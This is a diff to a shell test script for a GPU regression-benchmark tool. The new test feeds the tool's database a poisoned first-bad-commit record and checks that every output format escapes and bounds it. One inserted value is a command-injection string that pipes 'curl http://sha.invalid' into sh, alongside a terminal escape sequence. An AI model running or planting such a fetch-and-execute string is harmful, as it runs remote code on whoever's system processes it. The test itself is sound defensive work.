@@ -5,7 +5,8 @@
 # followed), a file over the size bound (a sparse giant), a damaged copy, a file that is not a
 # database, a database not ours; after the timing, a baseline of another GPU model (exit 2: not
 # comparable, not "same"). What older reproducers/ folders carried (the baseline run's whole
-# database) is still accepted and still reports the slower row.
+# database) is still accepted and still reports the slower row. The first bad commit stored with
+# an open regression is read as untrusted: a sha not hex ignored, the subject escaped and bounded.
 #   tests/untrusted_against.sh GPUREGRESS DB_QUERY
 set -u
 source "$(dirname "$0")/probe.sh"
@@ -54,4 +55,24 @@ b 2 "was timed on NVIDIA Foreign X1, this run on" -- "${bench[@]}" foreign.db
 rm -f local.db
 export GR_TEST_SLOWDOWN=selftest/ok=2
 b 1 ": slower" -- "${bench[@]}" old-whole.db
+unset GR_TEST_SLOWDOWN
+
+# the first bad commit stored with an open regression (schema 11) comes from a database too: a
+# sha that is not hex is ignored, a subject is shown escaped and bounded (terminal, JSON, Markdown)
+"$bin" compare --db night.db --record >record.log 2>&1
+"$dbq" -w night.db "INSERT INTO first_bad SELECT algorithm, variant, params, seed, l2, opened_run,
+  CASE WHEN params LIKE 'n=16384 %' THEN 'abcdef0123456789abcdef0123456789abcdef01'
+  ELSE 'xyz; curl http://sha.invalid | sh' END,
+  'evil ' || char(27) || '[31mred' || char(10) || 'line2 ' || printf('%.3000c', 'x'),
+  '2026-01-01', '2026-01-02' FROM open_regressions" >/dev/null
+for f in text markdown junit; do
+  if [ $f = junit ]; then "$bin" export --db night.db --format $f --out fb.$f >/dev/null 2>&1
+  else "$bin" compare --db night.db --format $f >fb.$f 2>&1; fi
+  note against "$(grep -qF 'first bad: abcdef012345 evil ' fb.$f && echo 1)" "$f: no escaped first bad"
+  note against "$(! grep -q $'\x1b' fb.$f && ! grep -q 'sha.invalid' fb.$f && echo 1)" "$f: a raw escape or the non-hex sha"
+  note against "$(! grep -q 'x\{1000\}' fb.$f && echo 1)" "$f: the subject unbounded"
+done
+"$bin" export --db night.db --format json --out fb.json >/dev/null 2>&1
+note against "$(grep -qF '"first_bad": "abcdef012345 evil \\x1b[31mred' fb.json && ! grep -q 'sha.invalid' fb.json &&
+  ! grep -q 'x\{1000\}' fb.json && echo 1)" "json: the first bad not escaped, bounded, or a non-hex sha shown"
 probe_summary untrusted_against
